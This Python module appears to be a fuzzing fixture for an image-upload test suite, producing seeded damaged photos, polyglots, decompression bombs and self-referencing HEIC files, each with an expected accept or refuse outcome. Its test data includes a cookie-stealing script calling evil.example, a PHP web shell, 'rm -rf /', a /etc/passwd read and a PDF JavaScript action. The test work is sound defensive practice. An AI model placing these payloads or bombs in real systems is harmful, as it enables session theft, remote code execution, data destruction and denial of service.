"""Files that mean harm, made from a number each: the same number is the same file, on every machine.

Photos damaged at random, cut off, half a photo and half something else, small files that want to become huge ones,
files under a wrong name, and photos that carry a place or a program beside their pixels.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from enum import Enum, auto
from functools import cache
from typing import NamedTuple

from PIL.PngImagePlugin import PngInfo

from tests.media.heic import box, full, heic
from tests.media.phones import CANARY, XMP, chunk, exif, flag, profile, saved, segment, talkative

Dice = random.Random
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>" + CANARY
PHP = b"<?php system($_GET[0]); ?>" + CANARY


class Wanted(Enum):
    """What must become of a file."""

    DRAWN = auto()
    REFUSED = auto()
    # Damaged: a photo without a word beside it, or refused.
    EITHER = auto()


class Upload(NamedTuple):
    """A file as somebody sends it; `name` is what a test says of it."""

    name: str
    data: bytes
    wanted: Wanted


# ---- photos to begin with --------------------------------------------------------------------------------------------


@cache
def photos() -> dict[str, bytes]:
    """A small photo of every sort and way, with the canary wherever there is room for it."""
    plain, clear = flag((96, 64)), flag((96, 64), "RGBA")
    said = PngInfo()
    said.add_text("Comment", CANARY.decode(), zip=True)
    said.add_itxt("XML:com.adobe.xmp", XMP.decode())
    png = {"pnginfo": said, "exif": exif()[6:], "icc_profile": profile()}
    webp = {"exif": exif()[6:], "xmp": XMP, "icc_profile": profile()}
    more = [flag((96, 64)).rotate(180)] * 3
    return {
        "jpeg": talkative(saved(plain, "JPEG")),
        "jpeg in layers": talkative(saved(plain, "JPEG", progressive=True), 6),
        "jpeg grey": talkative(saved(flag((96, 64), "L"), "JPEG")),
        "jpeg cmyk": talkative(saved(flag((96, 64), "CMYK"), "JPEG")),
        "jpeg in rows": talkative(saved(plain, "JPEG", restart_marker_rows=1)),
        "png": saved(plain, "PNG", **png),
        "png clear": saved(clear, "PNG", **png),
        "png few": saved(plain.quantize(8), "PNG", **png),
        "png two": saved(flag((96, 64), "1"), "PNG", **png),
        "png grey 16": saved(flag((96, 64), "I;16"), "PNG", **png),
        "png moves": saved(clear, "PNG", save_all=True, append_images=[clear.rotate(180)] * 3),
        "webp": saved(plain, "WEBP", **webp),
        "webp without loss": saved(clear, "WEBP", lossless=True, **webp),
        "webp clear": saved(clear, "WEBP", **webp),
        "webp moves": saved(plain, "WEBP", save_all=True, append_images=more, **webp),
        "gif": saved(plain, "GIF", comment=CANARY),
        "gif moves": saved(plain, "GIF", save_all=True, append_images=more, comment=CANARY),
        "bmp": saved(plain, "BMP"),
        "bmp few": saved(plain.quantize(8), "BMP"),
        "heic": heic(flag((96, 64)), exif=exif(), profile=profile()),
        "heic tiles": heic(flag((64, 32)), 3, 2, size=(180, 60), turn=1, exif=exif(6)),
        "avif": saved(plain, "AVIF", **webp),
        "avif clear": saved(clear, "AVIF", **webp),
        "avif moves": saved(plain, "AVIF", save_all=True, append_images=more),
    }


def _one(dice: Dice) -> tuple[str, bytes]:
    return dice.choice(sorted(photos().items()))


# ---- damaged ---------------------------------------------------------------------------------------------------------

EDGES = (0, 1, 0x7F, 0x80, 0xFF, 0x7FFF, 0x8000, 0xFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF)


def mutated(data: bytes, dice: Dice) -> bytes:
    """A file with a few of its bytes, numbers or pieces changed, most of them in front where the numbers stand."""
    found = bytearray(data)
    for _ in range(dice.choice((1, 1, 2, 3, 8, 40))):
        if not found:
            break
        reach = len(found) if dice.random() < 0.5 else min(len(found), 400)
        at = dice.randrange(reach)
        change = dice.randrange(6)
        if change == 0:
            found[at] ^= 1 << dice.randrange(8)
        elif change == 1:
            found[at] = dice.choice((0, 0xFF, 0x80, dice.randrange(256)))
        elif change == 2:
            size = dice.choice((2, 4))
            edge = dice.choice(EDGES) & (256**size - 1)
            found[at : at + size] = edge.to_bytes(size, dice.choice(("big", "little")))
        elif change == 3:
            del found[at : at + dice.randrange(1, 64)]
        elif change == 4:
            piece = found[at : at + dice.randrange(1, 200)]
            found[at:at] = piece * dice.choice((1, 1, 3))
        else:
            other = dice.randrange(len(found))
            found[other : other + 16] = found[at : at + 16]
    return bytes(found)


def _mutated(dice: Dice) -> Upload:
    name, data = _one(dice)
    return Upload(f"mutated {name}", mutated(data, dice), Wanted.EITHER)


def _cut(dice: Dice) -> Upload:
    name, data = _one(dice)
    return Upload(f"cut {name}", data[: dice.randrange(len(data))], Wanted.EITHER)


def _crossed(dice: Dice) -> Upload:
    (one, front), (other, back) = _one(dice), _one(dice)
    return Upload(f"{one} and {other}", front[: dice.randrange(len(front))] + back, Wanted.EITHER)


# ---- half something else ---------------------------------------------------------------------------------------------


@cache
def strangers() -> dict[str, bytes]:
    """Files that are no photos at all."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as files:
        files.writestr("evil.html", SCRIPT)
    film = box(b"ftyp", b"mp42", bytes(4), b"isommp42") + box(b"moov", bytes(99)) + box(b"mdat", CANARY * 40)
    return {
        "zip": packed.getvalue(),
        "page": b"<!doctype html><html>" + SCRIPT,
        "drawing that runs": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n" + CANARY,
        "windows drawing": b"\xd7\xcd\xc6\x9a\0\0" + bytes(40) + CANARY,
        "program": b"\x7fELF\x02\x01\x01" + bytes(120) + CANARY,
        "windows program": b"MZ\x90\0" + bytes(120) + b"PE\0\0" + CANARY,
        "script": b"#!/bin/sh\nrm -rf /\n" + CANARY,
        "php": PHP,
        "film": film,
        "film of an iphone": film.replace(b"mp42", b"qt  "),
        "voice": b"ID3\x04" + bytes(120),
        "words": b"Dit is geen foto.",
        "tiff": saved(flag((9, 9)), "TIFF"),
        "icon": saved(flag((16, 16)), "ICO"),
        "photoshop": b"8BPS\0\1" + bytes(60),
        "jpeg 2000": saved(flag((9, 9)), "JPEG2000"),
        "picture of old": b"P6 9 9 255\n" + bytes(243),
        "raw": b"II*\0\x10\0\0\0CR\2\0" + bytes(99),
        "jpeg xl": b"\0\0\0\x0cJXL \r\n\x87\n" + bytes(40),
        "one zero": b"\0",
        "zeros": bytes(5000),
        "only a name of a sort": b"\xff\xd8\xff",
        "png without anything": b"\x89PNG\r\n\x1a\n",
        "boxes without anything": box(b"ftyp", b"heic", bytes(4), b"mif1heic"),
    }


def _stranger(dice: Dice) -> Upload:
    name, data = dice.choice(sorted(strangers().items()))
    return Upload(name, data, Wanted.REFUSED)


def _noise(dice: Dice) -> Upload:
    begin = dice.choice([data[:16] for data in photos().values()] + [b""])
    return Upload("noise", begin + dice.randbytes(dice.randrange(1, 4000)), Wanted.REFUSED)


def _of_two_sorts(dice: Dice) -> Upload:
    """A photo that is something else too: behind it, or in a part of it that decoders skip."""
    other, evil = dice.choice(sorted(strangers().items()))
    name = dice.choice(("jpeg", "png", "webp", "gif", "bmp", "heic", "avif"))
    data, inside = photos()[name], dice.random() < 0.5
    if not inside:
        # A film's boxes behind a photo's boxes are boxes of the same file: that is a damaged one.
        one_file = name in {"heic", "avif"} and other.startswith("film")
        return Upload(f"{name} with {other} behind", data + evil, Wanted.EITHER if one_file else Wanted.DRAWN)
    if name == "jpeg":
        data = data[:2] + segment(0xFE, evil[:60_000]) + data[2:]
    elif name == "png":
        data = data[:33] + chunk(b"evIl", evil) + data[33:]
    elif name == "webp":
        data = _riff(data[12:] + b"EVIL" + struct.pack("<I", len(evil)) + evil + bytes(len(evil) % 2))
    elif name == "gif":
        head = 13 + 3 * (2 << (data[10] & 7)) if data[10] & 0x80 else 13
        data = data[:head] + b"!\xfe" + _said(evil) + data[head:]
    elif name in {"heic", "avif"}:
        data = data + box(b"evil", evil)
    return Upload(f"{name} with {other} inside", data, Wanted.DRAWN)


def _riff(chunks: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", len(chunks) + 4) + b"WEBP" + chunks


def _said(data: bytes) -> bytes:
    pieces = [data[at : at + 255] for at in range(0, len(data), 255)]
    return b"".join(bytes((len(piece),)) + piece for piece in pieces) + b"\0"


# ---- small files that want to become huge ----------------------------------------------------------------------------


def _png(width: int, height: int, rows: bytes, *said: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(said) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _packed(size: int) -> bytes:
    return zlib.compress(bytes(size), 9)


def _of_size(jpeg: bytes, width: int, height: int) -> bytes:
    found = bytearray(jpeg)
    at = max(jpeg.rfind(b"\xff\xc0\0"), jpeg.rfind(b"\xff\xc2\0"))
    found[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(found)


def _scans(times: int) -> bytes:
    """A JPEG whose last layer comes again and again."""
    data = saved(flag((640, 480)), "JPEG", progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * times + b"\xff\xd9"


def _frames(times: int) -> bytes:
    data = saved(flag((4, 4)), "GIF")
    head = 13 + 3 * (2 << (data[10] & 7))
    return data[:head] + data[head:-1] * times + b";"


def _tables(times: int) -> bytes:
    """EXIF whose tables lead to each other without an end."""
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8)
    return b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<H", times) + entry * times + struct.pack("<I", 8)


def _items(many: int) -> bytes:
    """A HEIC of very many pictures, none of which is there."""
    infos = [full(b"infe", struct.pack(">HH", item, 0), b"hvc1", b"\0", version=2) for item in range(1, many + 1)]
    inside = [full(b"hdlr", bytes(4), b"pict", bytes(13)), full(b"pitm", struct.pack(">H", 1))]
    inside.append(full(b"iinf", struct.pack(">H", many), *infos))
    return box(b"ftyp", b"heic", bytes(4), b"mif1heic") + full(b"meta", *inside)


def _boxes(deep: int) -> bytes:
    inside = b""
    for _ in range(deep):
        inside = box(b"iprp", inside)
    return box(b"ftyp", b"heic", bytes(4), b"mif1heic") + full(b"meta", inside)


def _told_wide(sort: str, data: bytes) -> bytes:
    """A photo in boxes that says it is as wide as nothing is."""
    at = data.index(b"ispe") + 8
    return data[:at] + struct.pack(">II", *((1 << 31) - 1, 3) if sort == "avif" else (60_000, 60_000)) + data[at + 8 :]


def _wide_webp() -> bytes:
    wide = struct.pack("<I", 16_383 - 1)[:3]
    return _riff(b"VP8X\x0a\0\0\0\x10\0\0\0" + wide + wide + photos()["webp"][30:])


BOMBS: dict[str, tuple[Callable[[], bytes], Wanted]] = {
    "png of 60,000 by 60,000": (lambda: _png(60_000, 60_000, _packed(1 << 22)), Wanted.REFUSED),
    "png one high and very wide": (lambda: _png((1 << 31) - 1, 1, _packed(1 << 22)), Wanted.REFUSED),
    "png that is small and unpacks to 300 MB": (lambda: _png(9, 9, _packed(300 << 20)), Wanted.EITHER),
    "png with 40 MB of packed words": (
        lambda: _png(9, 9, _packed(9 * 28), chunk(b"zTXt", b"a\0\0" + _packed(40 << 20))),
        Wanted.REFUSED,
    ),
    "png with 40 MB of packed words of the world": (
        lambda: _png(9, 9, _packed(9 * 28), chunk(b"iTXt", b"a\0\1\0\0\0" + _packed(40 << 20))),
        Wanted.REFUSED,
    ),
    "png with a profile of 40 MB": (
        lambda: _png(9, 9, _packed(9 * 28), chunk(b"iCCP", b"a\0\0" + _packed(40 << 20))),
        Wanted.REFUSED,
    ),
    "png with 90 parts of 900 kB of words": (
        lambda: _png(9, 9, _packed(9 * 28), *[chunk(b"zTXt", b"a\0\0" + _packed(900_000))] * 90),
        Wanted.REFUSED,
    ),
    "png with 100,000 parts": (lambda: _png(9, 9, _packed(9 * 28), chunk(b"tEXt", b"a\0b") * 100_000), Wanted.EITHER),
    "jpeg of 65,500 by 65,500": (lambda: _of_size(photos()["jpeg"], 65_500, 65_500), Wanted.REFUSED),
    "jpeg in layers of 9,000 by 9,000": (lambda: _of_size(photos()["jpeg in layers"], 9_000, 9_000), Wanted.REFUSED),
    "jpeg of 14,000 by 14,000 that ends": (lambda: _of_size(photos()["jpeg"], 14_000, 14_000), Wanted.EITHER),
    "jpeg with 2,000 layers": (lambda: _scans(2_000), Wanted.EITHER),
    "jpeg with 500 parts of words": (
        lambda: photos()["jpeg"][:2] + segment(0xFE, CANARY * 2500) * 500 + photos()["jpeg"][2:],
        Wanted.EITHER,
    ),
    "jpeg with 500 parts of exif": (
        lambda: photos()["jpeg"][:2] + segment(0xE1, b"Exif\0\0" + CANARY * 2500) * 500 + photos()["jpeg"][2:],
        Wanted.EITHER,
    ),
    "jpeg with exif that leads nowhere": (
        lambda: photos()["jpeg"][:2] + segment(0xE1, _tables(5_000)) + photos()["jpeg"][2:],
        Wanted.EITHER,
    ),
    "webp with exif that leads nowhere": (
        lambda: saved(flag((9, 9)), "WEBP", exif=_tables(60_000)[6:]),
        Wanted.EITHER,
    ),
    "avif with exif that leads nowhere": (
        lambda: photos()["avif"].replace(exif()[6:90], _tables(6)[6:90]),
        Wanted.EITHER,
    ),
    "webp of 16,383 by 16,383": (_wide_webp, Wanted.REFUSED),
    "gif of 65,535 by 65,535": (lambda: photos()["gif"][:6] + b"\xff" * 4 + photos()["gif"][10:], Wanted.REFUSED),
    "gif of 100,000 pictures": (lambda: _frames(100_000), Wanted.DRAWN),
    "gif with 3 MB of words": (lambda: _with_words(photos()["gif"], 3 << 20), Wanted.EITHER),
    "bmp as wide as a number goes": (
        lambda: photos()["bmp"][:18] + struct.pack("<ii", (1 << 31) - 1, -(1 << 31)) + photos()["bmp"][26:],
        Wanted.REFUSED,
    ),
    "bmp of 40,000 by 40,000": (
        lambda: photos()["bmp"][:18] + struct.pack("<ii", 40_000, 40_000) + photos()["bmp"][26:],
        Wanted.REFUSED,
    ),
    "heic of 60,000 by 60,000": (lambda: _told_wide("heic", photos()["heic"]), Wanted.EITHER),
    "heic of 255 by 255 tiles": (lambda: heic(flag((64, 64)), 200, 200, size=(200 * 64, 200 * 64)), Wanted.EITHER),
    "heic of 16,000 by 16,000 in tiles": (lambda: heic(flag((512, 512)), 32, 32), Wanted.REFUSED),
    "heic that says it is larger than its tiles": (
        lambda: heic(flag((64, 64)), 2, 2, size=(9_000, 9_000)),
        Wanted.REFUSED,
    ),
    "heic of 60,000 pictures": (lambda: _items(60_000), Wanted.REFUSED),
    "heic of 3,000 boxes in each other": (lambda: _boxes(3_000), Wanted.REFUSED),
    "avif as wide as a number goes": (lambda: _told_wide("avif", photos()["avif"]), Wanted.EITHER),
}


def _with_words(gif: bytes, size: int) -> bytes:
    head = 13 + 3 * (2 << (gif[10] & 7))
    return gif[:head] + b"!\xfe" + _said(CANARY * (size // len(CANARY))) + gif[head:]


@cache
def bomb(name: str) -> bytes:
    return BOMBS[name][0]()


def _bomb(dice: Dice) -> Upload:
    name = dice.choice(sorted(BOMBS))
    return Upload(name, bomb(name), BOMBS[name][1])


def woven(kinds: dict[int, bytes], made_of: dict[int, tuple[int, ...]], said: bytes) -> bytes:
    """A HEIC whose pictures are made of each other: item 1 is shown, and all of them say the same of themselves."""
    infos = [full(b"infe", struct.pack(">HH", item, 0), kind, b"\0", version=2) for item, kind in kinds.items()]
    parts = [box(b"dimg", struct.pack(f">HH{len(of)}H", item, len(of), *of)) for item, of in made_of.items()]
    linked = [struct.pack(">HBB", item, 1, 1) for item in kinds]
    sizes = box(b"ipco", full(b"ispe", struct.pack(">II", 64, 64)))
    ahead = [
        full(b"hdlr", bytes(4), b"pict", bytes(13)),
        full(b"pitm", struct.pack(">H", 1)),
        full(b"iinf", struct.pack(">H", len(infos)), *infos),
        full(b"iref", *parts),
        box(b"iprp", sizes, full(b"ipma", struct.pack(">I", len(linked)), *linked)),
    ]
    opening = box(b"ftyp", b"heic", bytes(4), b"mif1heic")
    begin = len(opening) + 12 + sum(map(len, ahead)) + 16 + 14 * len(kinds) + 8
    places = [struct.pack(">HHHII", item, 0, 1, begin, len(said)) for item in kinds]
    located = full(b"iloc", struct.pack(">BBH", 0x44, 0, len(kinds)), *places)
    return opening + full(b"meta", *ahead, located) + box(b"mdat", said)


_FOUR = struct.pack(">BBBBII", 0, 1, 1, 1, 64, 64)
WOVEN = {
    "tiles that are itself": woven({1: b"grid"}, {1: (1, 1, 1, 1)}, _FOUR),
    "two that are each other": woven({1: b"grid", 2: b"grid"}, {1: (2,) * 4, 2: (1,) * 4}, _FOUR),
    "a tower of 4 to the 20th": woven(
        dict.fromkeys(range(1, 21), b"grid"), {item: (item + 1,) * 4 for item in range(1, 20)}, _FOUR
    ),
    "a mirror in a mirror": woven({1: b"iden", 2: b"iden"}, {1: (2,), 2: (1,)}, _FOUR),
    "200 of itself on top of itself": woven(
        {1: b"iovl"}, {1: (1,) * 200}, struct.pack(">BBHHHHII", 0, 1, 0, 0, 0, 0, 30_000, 30_000) + bytes(1600)
    ),
}


# ---- what a photo says beside its pixels -----------------------------------------------------------------------------


def _talks(dice: Dice) -> Upload:
    """A good photo full of words, a place, a maker's note and a small picture of itself."""
    name, data = _one(dice)
    return Upload(f"talking {name}", data, Wanted.DRAWN)


def _talks_wrongly(dice: Dice) -> Upload:
    """A good photo whose words are damaged, and its pixels are not."""
    said = mutated(exif(dice.randrange(1, 9)), dice)[:60_000]
    xmp = mutated(XMP, dice)
    icc = mutated(profile(), dice)[:60_000]
    jpeg = saved(flag((96, 64)), "JPEG")
    parts = segment(0xE1, b"Exif\0\0" + said[6:]) + segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp)
    return Upload(
        "photo with damaged words",
        jpeg[:2] + parts + segment(0xE2, b"ICC_PROFILE\0\1\1" + icc) + jpeg[2:],
        Wanted.DRAWN,
    )


# How many of a hundred.
SHARES: tuple[tuple[Callable[[Dice], Upload], int], ...] = (
    (_mutated, 48),
    (_cut, 12),
    (_crossed, 5),
    (_stranger, 6),
    (_noise, 4),
    (_of_two_sorts, 11),
    (_bomb, 3),
    (_talks, 5),
    (_talks_wrongly, 6),
)
TABLE = tuple(make for make, share in SHARES for _ in range(share))


def upload(number: int) -> Upload:
    """The file of this number."""
    dice = Dice(f"upload {number}")
    return TABLE[number % len(TABLE)](dice)
